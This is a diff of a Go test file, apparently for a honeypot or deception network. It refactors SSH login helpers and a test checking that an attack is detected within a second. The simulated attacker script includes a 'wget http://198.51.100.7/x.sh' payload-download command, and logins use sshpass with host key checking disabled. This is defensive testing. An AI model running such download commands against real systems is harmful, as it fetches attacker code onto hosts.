@@ -24,11 +24,22 @@ var script = []string{"id", "uname -a", "wget http://198.51.100.7/x.sh", "exit"}
 // ssh logs in with the real OpenSSH client.
 func ssh(t *testing.T, s decnet.ServiceState, stdin string, args ...string) string {
 	t.Helper()
-	all := append([]string{
+	return sshWith(t, s, stdin, args, nil)
+}
+
+// sshRun logs in and has one command run.
+func sshRun(t *testing.T, s decnet.ServiceState, command string) string {
+	t.Helper()
+	return sshWith(t, s, "", nil, []string{command})
+}
+
+func sshWith(t *testing.T, s decnet.ServiceState, stdin string, options, command []string) string {
+	t.Helper()
+	all := slices.Concat([]string{
 		"-p", secret, "ssh", "-p", fmt.Sprint(s.Port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
 		"-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=10",
-	}, args...)
-	out, _ := run(t, stdin, "sshpass", append(all[:len(all):len(all)], username+"@"+s.Address.String())...)
+	}, options, []string{username + "@" + s.Address.String()}, command)
+	out, _ := run(t, stdin, "sshpass", all...)
 	return out
 }
 
@@ -43,11 +54,7 @@ func TestAnAttackIsSeenWithinASecond(t *testing.T) {
 		name string
 		run  func() string
 	}{
-		{"as one command", func() string {
-			out, _ := run(t, "", "sshpass", "-p", secret, "ssh", "-p", fmt.Sprint(at.Port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
-				"-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no", username+"@"+at.Address.String(), strings.Join(script, "; "))
-			return out
-		}},
+		{"as one command", func() string { return sshRun(t, at, strings.Join(script, "; ")) }},
 		{"typed without a terminal", func() string { return ssh(t, at, strings.Join(script, "\n")+"\n", "-T") }},
 		{"typed into a terminal", func() string { return ssh(t, at, strings.Join(script, "\n")+"\n", "-tt") }},
 	}
@@ -145,7 +152,7 @@ func checkBounties(t *testing.T, i *instance.Instance, times uint64) {
 
 // everyEventOnce checks that ids are unique and that the attacker's timeline is
 // numbered without gaps in the order of the list.
-func everyEventOnce(t *testing.T, i *instance.Instance) {
+func everyEventOnce(t *testing.T, i reader) {
 	t.Helper()
 	ids := map[string]bool{}
 	for n, e := range events(t, i, "&attacker=127.0.0.1") {
